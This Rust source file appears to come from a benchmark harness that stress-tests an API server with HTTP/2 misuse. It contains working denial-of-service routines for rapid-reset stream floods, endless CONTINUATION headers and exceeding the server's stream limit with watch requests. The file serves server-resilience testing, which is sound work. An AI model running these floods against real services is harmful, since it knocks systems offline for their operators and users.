//! Misuse of HTTP/2: streams that are reset at once, headers without end, more streams than are allowed.

use tokio::io::AsyncWriteExt;
use watchkeeper_bench_target::{GROUP, Result};

use crate::attack::{Attack, Scene, Tally, Who};
use crate::attacks::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PREFACE, RST_STREAM, frame, get, next,
};
use crate::site::{NAMESPACE, PLURAL};

const CONNECTIONS: usize = 8;
/// Connections that each attacker makes at the most, so that handshakes are not the attack.
const MOST: usize = 20;

pub(crate) const ATTACKS: &[Attack] = &[
    Attack::new("rapid reset over 8 connections", Who::Authenticated, |scene| Box::pin(rapid_reset(scene))),
    Attack::new("endless CONTINUATION over 8 connections", Who::Stranger, |scene| {
        Box::pin(continuation(scene))
    }),
    Attack::new("4 connections with 2,000 watches each", Who::Editor, |scene| Box::pin(streams(scene))),
];

/// Asks and takes it back, as fast as the server reads.
async fn rapid_reset(scene: Scene) -> Result<Tally> {
    let block = get(&scene.access, "/version");
    let burst = move |first: u32| {
        let mut bytes = Vec::new();
        for stream in (first..first + 200).step_by(2) {
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        bytes
    };
    attack(scene, "resets", 100, burst).await
}

/// Begins headers and goes on with them for ever.
async fn continuation(scene: Scene) -> Result<Tally> {
    let block = get(&scene.access, "/version");
    let burst = move |first: u32| match first {
        1 => frame(HEADERS, END_STREAM, 1, &block),
        // A literal without indexing, "a: a", many times.
        _ => frame(CONTINUATION, 0, 1, &b"\0\x01a\x01a".repeat(800)).repeat(4),
    };
    attack(scene, "frames", 4, burst).await
}

/// Sends bursts until the server closes the connection. A burst is told an odd number that is higher each time.
async fn attack(scene: Scene, what: &str, each: u64, burst: impl Fn(u32) -> Vec<u8>) -> Result<Tally> {
    let used = std::cell::Cell::new(0);
    let tally = scene.repeat(CONNECTIONS, async |_, tally| {
        if used.replace(used.get() + 1) >= CONNECTIONS * MOST {
            std::future::pending::<()>().await;
        }
        let (mut reading, mut writing) = tokio::io::split(scene.access.tls(b"h2").await?);
        writing.write_all(PREFACE).await?;
        tally.count("connections");
        let sending = async {
            let mut sent = 0_u64;
            for first in (1..u32::MAX / 2).step_by(200) {
                if writing.write_all(&burst(first)).await.is_err() {
                    break;
                }
                sent += each;
                // Whoever only writes does not learn that the connection is closed.
                tokio::task::yield_now().await;
            }
            sent
        };
        let reading = async {
            loop {
                match next(&mut reading).await {
                    Ok((GOAWAY, payload)) => break format!("GOAWAY {}", payload.get(7).copied().unwrap_or(0)),
                    Ok(_) => {}
                    Err(_) => break "closed".to_owned(),
                }
            }
        };
        tokio::select! {
            sent = sending => tally.count(format!("connections with up to {} {what}", sent.next_power_of_two())),
            why = reading => tally.count(why),
        }
        Ok(())
    });
    Ok(tally.await)
}

/// Begins more watches on a connection than the server said it allows.
async fn streams(scene: Scene) -> Result<Tally> {
    let path = format!("/apis/{GROUP}/v1/namespaces/{NAMESPACE}/{PLURAL}?watch=1");
    let block = get(&scene.access, &path);
    let tally = scene.repeat(4, async |_, tally| {
        let (mut reading, mut writing) = tokio::io::split(scene.access.tls(b"h2").await?);
        writing.write_all(PREFACE).await?;
        tally.count("connections");
        let sending = async {
            for stream in (1..4_000_u32).step_by(2) {
                writing.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).await?;
            }
            std::future::pending::<Result<()>>().await
        };
        let mut reading = async || loop {
            match next(&mut reading).await? {
                (HEADERS, _) => tally.count("answered"),
                (RST_STREAM, _) => tally.count("refused"),
                (GOAWAY, _) => tally.count("GOAWAY"),
                _ => {}
            }
        };
        tokio::select! {
            ended = sending => ended,
            ended = reading() => ended,
        }
    });
    Ok(tally.await)
}
